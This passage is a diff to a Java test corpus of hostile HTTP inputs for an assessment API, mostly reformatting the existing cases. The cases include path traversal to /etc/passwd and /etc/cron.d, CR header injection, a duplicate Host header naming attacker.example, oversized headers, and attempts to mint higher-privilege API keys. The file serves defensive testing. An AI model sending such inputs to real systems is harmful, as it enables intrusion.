-                {"/v1/recommendations/PS-4.2?lang=ja", "a language on one recommendation"},
-                {ASSESSMENTS + "/01936d3f-7a6c-7cc1-9a2e-3f1d2c4b5a69?full=true", "a parameter on one assessment"},
-                {"/v1/api-keys?all=true", "a parameter on the key list"},
-                {ASSESSMENTS + "?organizationId=%85", "a value that is not UTF-8"},
-                {ASSESSMENTS + "?limit=%C3%28", "a number that is not UTF-8"},
-                {ASSESSMENTS + "?%C3%28=1", "a name that is not UTF-8"},
-                {"/v3/api-docs?%85=1", "a name that is not UTF-8 on the contract"},
+            {ASSESSMENTS + "?decision=DO_NOT_SHARE", "a sharing filter on assessments"},
+            {ASSESSMENTS + "?organisationId=acme", "a misspelt filter"},
+            {ASSESSMENTS + "?OrganizationId=acme", "a filter in the wrong case"},
+            {ASSESSMENTS + "?offset=50", "offset paging"},
+            {ASSESSMENTS + "?page=2&limit=10", "page paging"},
+            {ASSESSMENTS + "?sort=createdAt", "a sort order"},
+            {ASSESSMENTS + "?outcome=MAYBE", "an outcome that is not one"},
+            {ASSESSMENTS + "?outcome=", "an empty outcome"},
+            {ASSESSMENTS + "?%01=1", "a control character as a parameter name"},
+            {ASSESSMENTS + "?=acme", "a parameter without a name"},
+            {REVIEWS + "?productId=cam-1", "an assessment filter on reviews"},
+            {REVIEWS + "?decision=MAYBE", "a decision that is not one"},
+            {"/v1/rulesets?cursor=MDE5MzZkM2Y", "a cursor that no page of the ruleset history gave"},
+            {"/v1/rulesets?limit=5&offset=5", "offset paging of ruleset events"},
+            {"/v1/rulesets/active?revision=sha256:00", "a revision on the active ruleset"},
+            {"/v1/recommendations?lang=ja", "a language as a parameter"},
+            {"/v1/recommendations/PS-4.2?lang=ja", "a language on one recommendation"},
+            {ASSESSMENTS + "/01936d3f-7a6c-7cc1-9a2e-3f1d2c4b5a69?full=true", "a parameter on one assessment"},
+            {"/v1/api-keys?all=true", "a parameter on the key list"},
+            {ASSESSMENTS + "?organizationId=%85", "a value that is not UTF-8"},
+            {ASSESSMENTS + "?limit=%C3%28", "a number that is not UTF-8"},
+            {ASSESSMENTS + "?%C3%28=1", "a name that is not UTF-8"},
+            {"/v3/api-docs?%85=1", "a name that is not UTF-8 on the contract"},
         };
         for (String[] g : gets) {
             cases.add(new Case("unknown parameter: " + g[1], "GET", g[0], null, null, List.of()));
         }
-        cases.add(new Case("unknown parameter on a good assessment: dryRun", "POST", ASSESSMENTS + "?dryRun=true", "application/json",
-                goodAssessment(), List.of()));
-        cases.add(new Case("unknown parameter on a good share", "POST", REVIEWS + "?lang=ja", "application/json", goodShare(), List.of()));
-        cases.add(new Case("misspelt parameter on a good batch", "POST", BATCH + "?details=FULL", "application/x-ndjson", goodBatch(), List.of()));
-        cases.add(new Case("base as a query parameter of validation", "POST", "/v1/rulesets/validate?base=NONE", "application/json",
-                "{\"files\":[{\"path\":\"product/extra.drl\",\"content\":\"package io.kakunin.rules.product;\"}]}".getBytes(StandardCharsets.UTF_8),
+        cases.add(new Case(
+                "unknown parameter on a good assessment: dryRun",
+                "POST",
+                ASSESSMENTS + "?dryRun=true",
+                "application/json",
+                goodAssessment(),
                 List.of()));
-        cases.add(new Case("a parameter on a good key creation", "POST", "/v1/api-keys?expires=never", "application/json",
-                "{\"name\":\"ops\",\"roles\":[\"AUDITOR\"]}".getBytes(StandardCharsets.UTF_8), List.of()));
-        cases.add(new Case("a malformed form body on a key revocation", "DELETE", "/v1/api-keys/01936d3f-7a6c-7cc1-9a2e-3f1d2c4b5a69",
-                "application/x-www-form-urlencoded", "a=%zz&%85=1".getBytes(StandardCharsets.ISO_8859_1), List.of()));
-        cases.add(new Case("Idempotency-Key on a good batch", "POST", BATCH, "application/x-ndjson", goodBatch(),
+        cases.add(new Case(
+                "unknown parameter on a good share",
+                "POST",
+                REVIEWS + "?lang=ja",
+                "application/json",
+                goodShare(),
+                List.of()));
+        cases.add(new Case(
+                "misspelt parameter on a good batch",
+                "POST",
+                BATCH + "?details=FULL",
+                "application/x-ndjson",
+                goodBatch(),
+                List.of()));
+        cases.add(new Case(
+                "base as a query parameter of validation",
+                "POST",
+                "/v1/rulesets/validate?base=NONE",
+                "application/json",
+                "{\"files\":[{\"path\":\"product/extra.drl\",\"content\":\"package io.kakunin.rules.product;\"}]}"
+                        .getBytes(StandardCharsets.UTF_8),
+                List.of()));
+        cases.add(new Case(
+                "a parameter on a good key creation",
+                "POST",
+                "/v1/api-keys?expires=never",
+                "application/json",
+                "{\"name\":\"ops\",\"roles\":[\"AUDITOR\"]}".getBytes(StandardCharsets.UTF_8),
+                List.of()));
+        cases.add(new Case(
+                "a malformed form body on a key revocation",
+                "DELETE",
+                "/v1/api-keys/01936d3f-7a6c-7cc1-9a2e-3f1d2c4b5a69",
+                "application/x-www-form-urlencoded",
+                "a=%zz&%85=1".getBytes(StandardCharsets.ISO_8859_1),
+                List.of()));
+        cases.add(new Case(
+                "Idempotency-Key on a good batch",
+                "POST",
+                BATCH,
+                "application/x-ndjson",
+                goodBatch(),
                 List.of("Idempotency-Key", "batch-key-1")));
-        cases.add(new Case("Idempotency-Key on a good key creation", "POST", "/v1/api-keys", "application/json",
-                "{\"name\":\"ops\",\"roles\":[\"AUDITOR\"]}".getBytes(StandardCharsets.UTF_8), List.of("Idempotency-Key", "key-1")));
+        cases.add(new Case(
+                "Idempotency-Key on a good key creation",
+                "POST",
+                "/v1/api-keys",
+                "application/json",
+                "{\"name\":\"ops\",\"roles\":[\"AUDITOR\"]}".getBytes(StandardCharsets.UTF_8),
+                List.of("Idempotency-Key", "key-1")));
     }
 
     /** Accept headers that allow no answer of the operation, on requests that would otherwise succeed and store. */
     private void acceptHeaders() {
-        for (String accept : List.of("%%%", "application/problem+json", "text/html", "application/xml", "application/json;q=0",
-                "application/json;q=x", "*/*;q=", "text/*")) {
-            cases.add(new Case("Accept " + accept + " on a good assessment", "POST", ASSESSMENTS, "application/json", goodAssessment(),
+        for (String accept : List.of(
+                "%%%",
+                "application/problem+json",
+                "text/html",
+                "application/xml",
+                "application/json;q=0",
+                "application/json;q=x",
+                "*/*;q=",
+                "text/*")) {
+            cases.add(new Case(
+                    "Accept " + accept + " on a good assessment",
+                    "POST",
+                    ASSESSMENTS,
+                    "application/json",
+                    goodAssessment(),
                     List.of("Accept", accept)));
         }
         for (String accept : List.of("%%%", "application/problem+json")) {
-            cases.add(new Case("Accept " + accept + " on a good share", "POST", REVIEWS, "application/json", goodShare(), List.of("Accept", accept)));
-            cases.add(new Case("Accept " + accept + " on a good batch", "POST", BATCH, "application/x-ndjson", goodBatch(), List.of("Accept", accept)));
-            cases.add(new Case("Accept " + accept + " on the recommendations", "GET", "/v1/recommendations", null, null, List.of("Accept", accept)));
-            cases.add(new Case("Accept " + accept + " on the listing", "GET", ASSESSMENTS, null, null, List.of("Accept", accept)));
+            cases.add(new Case(
+                    "Accept " + accept + " on a good share",
+                    "POST",
+                    REVIEWS,
+                    "application/json",
+                    goodShare(),
+                    List.of("Accept", accept)));
+            cases.add(new Case(
+                    "Accept " + accept + " on a good batch",
+                    "POST",
+                    BATCH,
+                    "application/x-ndjson",
+                    goodBatch(),
+                    List.of("Accept", accept)));
+            cases.add(new Case(
+                    "Accept " + accept + " on the recommendations",
+                    "GET",
+                    "/v1/recommendations",
+                    null,
+                    null,
+                    List.of("Accept", accept)));
+            cases.add(new Case(
+                    "Accept " + accept + " on the listing", "GET", ASSESSMENTS, null, null, List.of("Accept", accept)));
         }
         for (String coding : List.of("gzip", "br", "deflate, gzip")) {
-            cases.add(new Case("Content-Encoding " + coding + " on a good assessment", "POST", ASSESSMENTS, "application/json", goodAssessment(),
+            cases.add(new Case(
+                    "Content-Encoding " + coding + " on a good assessment",
+                    "POST",
+                    ASSESSMENTS,
+                    "application/json",
+                    goodAssessment(),
                     List.of("Content-Encoding", coding)));
         }
-        cases.add(new Case("Accept application/json on the batch", "POST", BATCH, "application/x-ndjson", goodBatch(),
+        cases.add(new Case(
+                "Accept application/json on the batch",
+                "POST",
+                BATCH,
+                "application/x-ndjson",
+                goodBatch(),
                 List.of("Accept", "application/json")));
     }
 
@@ -517,34 +843,107 @@ final class HostileInputCorpus {
      * header the service reads, on the requests that read it, and one it does not read.
      */
     private void headerBytes() {
-        String[][] values = {{"0x85", "ja\u0085"}, {"UTF-8 text", "\u00e6\u0097\u00a5\u00e6\u009c\u00ac"}, {"ESC", "\u001b[2J"},
-                {"BEL", "a\u0007b"}, {"0x9B", "\u009b31m"}};
+        String[][] values = {
+            {"0x85", "ja\u0085"},
+            {"UTF-8 text", "\u00e6\u0097\u00a5\u00e6\u009c\u00ac"},
+            {"ESC", "\u001b[2J"},
+            {"BEL", "a\u0007b"},
+            {"0x9B", "\u009b31m"}
+        };
         String json = "Content-Type: application/json";
         for (String[] v : values) {
-            raw("Accept-Language with " + v[0] + " on a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY, json,
+            raw(
+                    "Accept-Language with " + v[0] + " on a good assessment",
+                    "POST",
+                    ASSESSMENTS,
+                    goodAssessment(),
+                    KEY,
+                    json,
                     "Accept-Language: " + v[1]);
-            raw("Idempotency-Key with " + v[0] + " on a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY, json,
+            raw(
+                    "Idempotency-Key with " + v[0] + " on a good assessment",
+                    "POST",
+                    ASSESSMENTS,
+                    goodAssessment(),
+                    KEY,
+                    json,
                     "Idempotency-Key: " + v[1]);
-            raw("Accept with " + v[0] + " on a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY, json,
+            raw(
+                    "Accept with " + v[0] + " on a good assessment",
+                    "POST",
+                    ASSESSMENTS,
+                    goodAssessment(),
+                    KEY,
+                    json,
                     "Accept: application/json" + v[1]);
-            raw("Content-Type with " + v[0] + " on a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY,
+            raw(
+                    "Content-Type with " + v[0] + " on a good assessment",
+                    "POST",
+                    ASSESSMENTS,
+                    goodAssessment(),
+                    KEY,
                     "Content-Type: application/json" + v[1]);
-            raw("Origin with " + v[0] + " on a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY, json,
+            raw(
+                    "Origin with " + v[0] + " on a good assessment",
+                    "POST",
+                    ASSESSMENTS,
+                    goodAssessment(),
+                    KEY,
+                    json,
                     "Origin: https://" + v[1]);
-            raw("an unread header with " + v[0] + " on a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY, json,
+            raw(
+                    "an unread header with " + v[0] + " on a good assessment",
+                    "POST",
+                    ASSESSMENTS,
+                    goodAssessment(),
+                    KEY,
+                    json,
                     "X-Trace: " + v[1]);
             raw("X-API-Key with " + v[0], "GET", "/v1/recommendations", null, "X-API-Key: " + TestKeys.ALL + v[1]);
             raw("Authorization with " + v[0], "GET", "/v1/recommendations", null, "Authorization: Bearer " + v[1]);
         }
-        String[][] reads = {{"GET", "/v1/recommendations"}, {"GET", "/v1/recommendations/PS-4.2"}, {"GET", ASSESSMENTS + "?limit=1"},
-                {"GET", REVIEWS}, {"GET", "/v1/rulesets/active"}, {"GET", "/actuator/health"}, {"GET", "/v3/api-docs"}};
+        String[][] reads = {
+            {"GET", "/v1/recommendations"},
+            {"GET", "/v1/recommendations/PS-4.2"},
+            {"GET", ASSESSMENTS + "?limit=1"},
+            {"GET", REVIEWS},
+            {"GET", "/v1/rulesets/active"},
+            {"GET", "/actuator/health"},
+            {"GET", "/v3/api-docs"}
+        };
         for (String[] r : reads) {
-            raw("Accept-Language with 0x85 on " + r[0] + " " + r[1], r[0], r[1], null, KEY, "Accept-Language: ja\u0085");
+            raw(
+                    "Accept-Language with 0x85 on " + r[0] + " " + r[1],
+                    r[0],
+                    r[1],
+                    null,
+                    KEY,
+                    "Accept-Language: ja\u0085");
             raw("X-API-Key with 0x85 on " + r[0] + " " + r[1], r[0], r[1], null, "X-API-Key: ja\u0085");
         }
-        raw("Accept-Language with 0x85 on a good share", "POST", REVIEWS, goodShare(), KEY, json, "Accept-Language: ja\u0085");
-        raw("Idempotency-Key with 0x85 on a good share", "POST", REVIEWS, goodShare(), KEY, json, "Idempotency-Key: k\u0085");
-        raw("Accept-Language with 0x85 on a good batch", "POST", BATCH, goodBatch(), KEY, "Content-Type: application/x-ndjson",
+        raw(
+                "Accept-Language with 0x85 on a good share",
+                "POST",
+                REVIEWS,
+                goodShare(),
+                KEY,
+                json,
+                "Accept-Language: ja\u0085");
+        raw(
+                "Idempotency-Key with 0x85 on a good share",
+                "POST",
+                REVIEWS,
+                goodShare(),
+                KEY,
+                json,
+                "Idempotency-Key: k\u0085");
+        raw(
+                "Accept-Language with 0x85 on a good batch",
+                "POST",
+                BATCH,
+                goodBatch(),
+                KEY,
+                "Content-Type: application/x-ndjson",
                 "Accept-Language: ja\u0085");
     }
 
@@ -552,19 +951,79 @@ final class HostileInputCorpus {
     private void repeatedHeaders() {
         String json = "Content-Type: application/json";
         raw("X-API-Key twice, the same key", "GET", "/v1/recommendations", null, KEY, KEY);
-        raw("X-API-Key twice, a good key first", "GET", "/v1/recommendations", null, KEY, "X-API-Key: kak_not_a_key_0000000000000000000000000");
-        raw("X-API-Key twice, a good key second", "GET", "/v1/recommendations", null, "X-API-Key: kak_not_a_key_0000000000000000000000000", KEY);
-        raw("X-API-Key twice on a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY, "X-API-Key: " + TestKeys.SUBMITTER_B, json);
-        raw("Idempotency-Key twice on a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY, json, "Idempotency-Key: dup-a",
+        raw(
+                "X-API-Key twice, a good key first",
+                "GET",
+                "/v1/recommendations",
+                null,
+                KEY,
+                "X-API-Key: kak_not_a_key_0000000000000000000000000");
+        raw(
+                "X-API-Key twice, a good key second",
+                "GET",
+                "/v1/recommendations",
+                null,
+                "X-API-Key: kak_not_a_key_0000000000000000000000000",
+                KEY);
+        raw(
+                "X-API-Key twice on a good assessment",
+                "POST",
+                ASSESSMENTS,
+                goodAssessment(),
+                KEY,
+                "X-API-Key: " + TestKeys.SUBMITTER_B,
+                json);
+        raw(
+                "Idempotency-Key twice on a good assessment",
+                "POST",
+                ASSESSMENTS,
+                goodAssessment(),
+                KEY,
+                json,
+                "Idempotency-Key: dup-a",
                 "Idempotency-Key: dup-b");
-        raw("Idempotency-Key twice, the same, on a good share", "POST", REVIEWS, goodShare(), KEY, json, "Idempotency-Key: dup-c",
+        raw(
+                "Idempotency-Key twice, the same, on a good share",
+                "POST",
+                REVIEWS,
+                goodShare(),
+                KEY,
+                json,
+                "Idempotency-Key: dup-c",
                 "Idempotency-Key: dup-c");
-        raw("Authorization twice", "GET", "/v1/recommendations", null, "Authorization: Bearer a.b.c", "Authorization: Bearer d.e.f");
-        raw("Authorization twice with a key", "GET", "/v1/recommendations", null, KEY, "Authorization: Basic YTpi", "Authorization: Basic YTpi");
+        raw(
+                "Authorization twice",
+                "GET",
+                "/v1/recommendations",
+                null,
+                "Authorization: Bearer a.b.c",
+                "Authorization: Bearer d.e.f");
+        raw(
+                "Authorization twice with a key",
+                "GET",
+                "/v1/recommendations",
+                null,
+                KEY,
+                "Authorization: Basic YTpi",
+                "Authorization: Basic YTpi");
         raw("Content-Type twice on a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY, json, json);
-        raw("Content-Type twice, JSON and text, on a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY, json, "Content-Type: text/plain");
-        raw("Content-Length twice on a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY, json,
-                "Content-Length: " + goodAssessment().length, "Content-Length: " + goodAssessment().length);
+        raw(
+                "Content-Type twice, JSON and text, on a good assessment",
+                "POST",
+                ASSESSMENTS,
+                goodAssessment(),
+                KEY,
+                json,
+                "Content-Type: text/plain");
+        raw(
+                "Content-Length twice on a good assessment",
+                "POST",
+                ASSESSMENTS,
+                goodAssessment(),
+                KEY,
+                json,
+                "Content-Length: " + goodAssessment().length,
+                "Content-Length: " + goodAssessment().length);
         raw("Host twice", "GET", "/v1/recommendations", null, KEY, "Host: localhost", "Host: attacker.example");
     }
 
@@ -574,20 +1033,51 @@ final class HostileInputCorpus {
      */
     private void whatOnlyASocketSends() {
         String json = "Content-Type: application/json";
-        raw("an Idempotency-Key of 8,000 characters on a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY, json,
+        raw(
+                "an Idempotency-Key of 8,000 characters on a good assessment",
+                "POST",
+                ASSESSMENTS,
+                goodAssessment(),
+                KEY,
+                json,
                 "Idempotency-Key: " + "k".repeat(8000));
-        raw("an Accept-Language of 9,000 characters", "GET", "/v1/recommendations", null, KEY, "Accept-Language: " + "a".repeat(9000));
+        raw(
+                "an Accept-Language of 9,000 characters",
+                "GET",
+                "/v1/recommendations",
+                null,
+                KEY,
+                "Accept-Language: " + "a".repeat(9000));
         raw("an X-API-Key of 9,000 characters", "GET", "/v1/recommendations", null, "X-API-Key: " + "k".repeat(9000));
-        raw("headers of 12 KB in 200 lines", "GET", "/v1/recommendations", null,
-                java.util.stream.Stream.concat(java.util.stream.Stream.of(KEY),
-                        java.util.stream.IntStream.range(0, 200).mapToObj(i -> "X-Filler-" + i + ": " + "f".repeat(50))).toArray(String[]::new));
-        raw("a URL of 10,000 characters in the query", "GET", ASSESSMENTS + "?organizationId=" + "k".repeat(10_000), null, KEY);
+        raw(
+                "headers of 12 KB in 200 lines",
+                "GET",
+                "/v1/recommendations",
+                null,
+                java.util.stream.Stream.concat(
+                                java.util.stream.Stream.of(KEY),
+                                java.util.stream.IntStream.range(0, 200)
+                                        .mapToObj(i -> "X-Filler-" + i + ": " + "f".repeat(50)))
+                        .toArray(String[]::new));
+        raw(
+                "a URL of 10,000 characters in the query",
+                "GET",
+                ASSESSMENTS + "?organizationId=" + "k".repeat(10_000),
+                null,
+                KEY);
         raw("a URL of 10,000 characters in the path", "GET", ASSESSMENTS + "/" + "k".repeat(10_000), null, KEY);
         raw("a CR in a header value", "GET", "/v1/recommendations", null, KEY, "Accept-Language: ja\rX-Injected: 1");
         raw("a NUL in a header value", "GET", "/v1/recommendations", null, KEY, "Accept-Language: ja\u0000en");
         raw("a NUL in the key", "GET", "/v1/recommendations", null, "X-API-Key: " + TestKeys.ALL + "\u0000");
         raw("a DEL in a header value", "GET", "/v1/recommendations", null, KEY, "Accept-Language: ja\u007f");
-        raw("a CR in a header value of a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY, json, "Idempotency-Key: a\rb");
+        raw(
+                "a CR in a header value of a good assessment",
+                "POST",
+                ASSESSMENTS,
+                goodAssessment(),
+                KEY,
+                json,
+                "Idempotency-Key: a\rb");
         raw("a space before a header's colon", "GET", "/v1/recommendations", null, "X-API-Key : " + TestKeys.ALL);
         raw("a header line without a colon", "GET", "/v1/recommendations", null, KEY, "Accept-Language ja");
         raw("a header name with 0x85", "GET", "/v1/recommendations", null, KEY, "X-L\u0085ang: ja");
@@ -602,27 +1092,73 @@ final class HostileInputCorpus {
         raw("a path climbing out", "GET", "/v1/../../etc/passwd", null, KEY);
         raw("an encoded path climbing out", "GET", "/v1/recommendations/..%2F..%2Fapi-keys", null, KEY);
         raw("a request line with a method of symbols", "G(T", "/v1/recommendations", null, KEY);
-        raw("an Expect that cannot be met on a good assessment", "POST", ASSESSMENTS, goodAssessment(), KEY, json, "Expect: 200-ok");
+        raw(
+                "an Expect that cannot be met on a good assessment",
+                "POST",
+                ASSESSMENTS,
+                goodAssessment(),
+                KEY,
+                json,
+                "Expect: 200-ok");
         raw("a negative Content-Length", "POST", ASSESSMENTS, goodAssessment(), KEY, json, "Content-Length: -1");
-        raw("a Content-Length that is not a number", "POST", ASSESSMENTS, goodAssessment(), KEY, json, "Content-Length: 1e3");
-        raw("a chunk size that is not hex", "POST", ASSESSMENTS, "zz\r\n{}\r\n0\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1), KEY, json,
+        raw(
+                "a Content-Length that is not a number",
+                "POST",
+                ASSESSMENTS,
+                goodAssessment(),
+                KEY,
+                json,
+                "Content-Length: 1e3");
+        raw(
+                "a chunk size that is not hex",
+                "POST",
+                ASSESSMENTS,
+                "zz\r\n{}\r\n0\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1),
+                KEY,
+                json,
                 "Transfer-Encoding: chunked");
     }
 
     private void adminBodies() {
-        post("API key with a control character in its name", "/v1/api-keys", "{\"name\":\"ops\\u0007\",\"roles\":[\"AUDITOR\"]}");
+        post(
+                "API key with a control character in its name",
+                "/v1/api-keys",
+                "{\"name\":\"ops\\u0007\",\"roles\":[\"AUDITOR\"]}");
         post("API key without roles", "/v1/api-keys", "{\"name\":\"ops\",\"roles\":[]}");
         post("API key with an unknown role", "/v1/api-keys", "{\"name\":\"ops\",\"roles\":[\"ROOT\"]}");
-        post("API key with an injected name", "/v1/api-keys", "{\"name\":\"" + "n".repeat(201) + "\",\"roles\":[\"AUDITOR\"]}");
+        post(
+                "API key with an injected name",
+                "/v1/api-keys",
+                "{\"name\":\"" + "n".repeat(201) + "\",\"roles\":[\"AUDITOR\"]}");
         // A key grants only roles it holds: an ADMIN-only key minting a key with more is a 403.
         String admin = "X-API-Key: " + TestKeys.ADMIN;
         String json = "Content-Type: application/json";
-        raw("an ADMIN-only key minting a key with every role", "POST", "/v1/api-keys",
-                "{\"name\":\"ops\",\"roles\":[\"SUBMITTER\",\"AUDITOR\",\"RULE_ADMIN\",\"ADMIN\"]}".getBytes(StandardCharsets.UTF_8), admin, json);
-        raw("an ADMIN-only key minting a RULE_ADMIN key", "POST", "/v1/api-keys",
-                "{\"name\":\"rules\",\"roles\":[\"RULE_ADMIN\"]}".getBytes(StandardCharsets.UTF_8), admin, json);
-        post("validation of a path escaping the ruleset", "/v1/rulesets/validate", "{\"files\":[{\"path\":\"../../etc/passwd.drl\",\"content\":\"x\"}]}");
-        post("validation of an absolute path", "/v1/rulesets/validate", "{\"files\":[{\"path\":\"/etc/cron.d/x.drl\",\"content\":\"x\"}]}");
-        post("validation of bad base64", "/v1/rulesets/validate", "{\"files\":[{\"path\":\"a.drl\",\"content\":\"%%%\",\"encoding\":\"BASE64\"}]}");
+        raw(
+                "an ADMIN-only key minting a key with every role",
+                "POST",
+                "/v1/api-keys",
+                "{\"name\":\"ops\",\"roles\":[\"SUBMITTER\",\"AUDITOR\",\"RULE_ADMIN\",\"ADMIN\"]}"
+                        .getBytes(StandardCharsets.UTF_8),
+                admin,
+                json);
+        raw(
+                "an ADMIN-only key minting a RULE_ADMIN key",
+                "POST",
+                "/v1/api-keys",
+                "{\"name\":\"rules\",\"roles\":[\"RULE_ADMIN\"]}".getBytes(StandardCharsets.UTF_8),
+                admin,
+                json);
+        post(
+                "validation of a path escaping the ruleset",
+                "/v1/rulesets/validate",
+                "{\"files\":[{\"path\":\"../../etc/passwd.drl\",\"content\":\"x\"}]}");
+        post(
+                "validation of an absolute path",
+                "/v1/rulesets/validate",
+                "{\"files\":[{\"path\":\"/etc/cron.d/x.drl\",\"content\":\"x\"}]}");
+        post(
+                "validation of bad base64",
+                "/v1/rulesets/validate",
+                "{\"files\":[{\"path\":\"a.drl\",\"content\":\"%%%\",\"encoding\":\"BASE64\"}]}");
     }
 }
